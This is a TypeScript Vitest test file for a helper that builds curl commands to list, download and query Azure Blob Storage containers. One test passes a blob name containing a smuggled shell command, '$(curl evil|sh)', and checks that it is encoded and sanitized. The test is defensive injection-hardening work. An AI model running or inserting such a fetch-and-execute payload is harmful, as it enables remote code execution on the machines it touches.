import { describe, expect, it } from 'vitest';
import { blobUrl, curlCommands, findWhere } from './curl';

const containers = [
  {
    container: 'recordings',
    status: 'issued' as const,
    policyId: 'p',
    url: 'https://t.blob.core.windows.net/recordings?sv=1&si=p&sig=x',
    revoked: 0,
    pruned: 0,
  },
];

describe('curl commands', () => {
  it('list, download and find with the real URLs', () => {
    const cmds = curlCommands(
      {
        accountUrl: 'https://t.blob.core.windows.net/?sv=1&sp=f&sig=y',
        containers,
        exampleBlob: { container: 'recordings', name: 'mytenant/a_b.mp3.bin' },
      },
      new Date('2026-12-01T12:00:00Z'),
    );
    expect(cmds.map((c) => c.command)).toEqual([
      'curl --request GET "https://t.blob.core.windows.net/recordings?sv=1&si=p&sig=x&restype=container&comp=list"',
      'curl --request GET "https://t.blob.core.windows.net/recordings/mytenant/a_b.mp3.bin?sv=1&si=p&sig=x" --output "a_b.mp3.bin"',
      `curl --request GET "https://t.blob.core.windows.net/?sv=1&sp=f&sig=y&comp=blobs&where=${encodeURIComponent(
        "@container='recordings' AND RecordingType = 'CALL' AND StoredTime >= '2026-11-24T00:00:00Z' AND StoredTime < '2026-12-02T00:00:00Z'",
      )}"`,
    ]);
  });

  it('uses the example blob only with the URL of its own container', () => {
    const failedRecordings = [
      { container: 'recordings', status: 'failed' as const, revokeRequested: false, message: 'no' },
      {
        container: 'gim-export',
        status: 'issued' as const,
        policyId: 'p',
        url: 'https://t.blob.core.windows.net/gim-export?sv=1&si=p&sig=x',
        revoked: 0,
        pruned: 0,
      },
    ];
    const [list, download] = curlCommands({
      accountUrl: 'https://t/?sig=y',
      containers: failedRecordings,
      exampleBlob: { container: 'recordings', name: 'mytenant/a.mp3.bin' },
    });
    expect(list!.title).toBe('List the gim-export container');
    expect(download!.command).toBe(
      'curl --request GET "https://t.blob.core.windows.net/gim-export/%3Cblob%20name%3E?sv=1&si=p&sig=x" --output "_blob_name_"',
    );
  });

  it('never lets a blob name reach the shell', () => {
    const [, download] = curlCommands({
      accountUrl: 'https://t/?sig=y',
      containers,
      exampleBlob: { container: 'recordings', name: '!$(curl evil|sh) `x`.mp3.bin' },
    });
    expect(download!.command).toBe(
      'curl --request GET "https://t.blob.core.windows.net/recordings/%21%24%28curl%20evil%7Csh%29%20%60x%60.mp3.bin?sv=1&si=p&sig=x" --output "___curl_evil_sh___x_.mp3.bin"',
    );
  });

  it('encodes blob paths segment by segment', () => {
    expect(blobUrl('http://h/c?sig=1', 'a b/c#d')).toBe('http://h/c/a%20b/c%23d?sig=1');
    expect(findWhere('gim-export', new Date('2026-01-01T00:00:00Z'))).toContain("@container='gim-export'");
  });
});
